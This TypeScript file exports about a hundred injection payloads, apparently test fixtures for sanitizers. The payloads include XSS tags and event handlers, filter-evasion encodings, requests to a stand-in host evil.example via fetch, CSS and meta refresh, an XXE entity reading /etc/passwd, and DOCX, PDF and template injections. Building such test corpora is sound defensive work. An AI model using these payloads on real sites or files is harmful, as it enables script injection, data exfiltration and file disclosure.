/** A hundred ways to smuggle a script, a request or a dialog into a page, a style, an attribute or a file. */
const scripts = ['alert(1)', 'alert`1`', 'top.alert(1)', "fetch('//evil.example')", 'location="//evil.example"'];

const tags = (script: string): string[] => [
  `<script>${script}</script>`,
  `<ScRiPt >${script}</sCrIpT>`,
  `<img src=x onerror=${script}>`,
  `"><svg onload=${script}>`,
  `'><body onload=${script}>`,
  `<details open ontoggle=${script}>`,
  `<iframe srcdoc="<script>${script}</script>">`,
  `<a href="javascript:${script}" autofocus onfocus=${script}>x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `</title></style></textarea></script><script>${script}</script>`,
  `<input autofocus onfocus=${script}>`,
  `<video><source onerror=${script}></video>`,
];

const loads = [
  '<img src=//evil.example/x.png>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>body{background:url(//evil.example/x.png)}</style>',
  '"; } body { background: url("//evil.example/x.png") } @page { a: "',
  '\\"; } @import url(//evil.example); a { b: "',
  '</style><img src=//evil.example/y.png>',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><button autofocus>x',
  '<audio src=//evil.example autoplay>',
  '<input type=image src=//evil.example>',
  '<table background=//evil.example>',
];

const shapes = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script\u0000>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '<img\tsrc=x\tonerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<w:instrText>INCLUDETEXT "//evil.example/x"</w:instrText>',
  '</w:t></w:r><w:hyperlink r:id="rId1"/>',
  '(x) /OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  'endobj 1 0 obj << /S /URI /URI (http://evil.example) >>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '\uD800<script>alert(1)</script>\uDC00',
  '\u202e<script>alert(1)</script>',
];

export const scriptPayloads: readonly string[] = [...scripts.flatMap(tags), ...loads, ...shapes];
